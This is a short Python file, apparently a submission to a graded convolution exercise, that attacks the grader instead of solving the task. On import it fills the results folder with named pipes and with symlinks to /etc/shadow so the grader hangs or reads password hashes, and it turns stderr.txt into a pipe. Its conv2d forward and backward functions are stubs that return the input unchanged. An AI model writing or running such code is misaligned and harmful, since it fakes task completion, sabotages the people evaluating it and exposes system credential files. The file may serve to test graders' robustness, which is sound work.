"""Plant named pipes and symlinks where results go, to hang the grader or make it read secrets."""

import os

os.makedirs("out", exist_ok=True)
for _i in range(60):
    for _name in (f"{_i}.json", f"{_i}__out.npy", f"{_i}__dx.npy"):
        _path = os.path.join("out", _name)
        try:
            if _i % 2:
                os.mkfifo(_path)
            else:
                os.symlink("/etc/shadow", _path)
        except OSError:
            pass
try:
    os.remove("stderr.txt")
    os.mkfifo("stderr.txt")
except OSError:
    pass


def conv2d_forward_loop(x, w, b, stride=1, padding=0):
    return x


conv2d_forward = conv2d_backward = conv2d_forward_loop
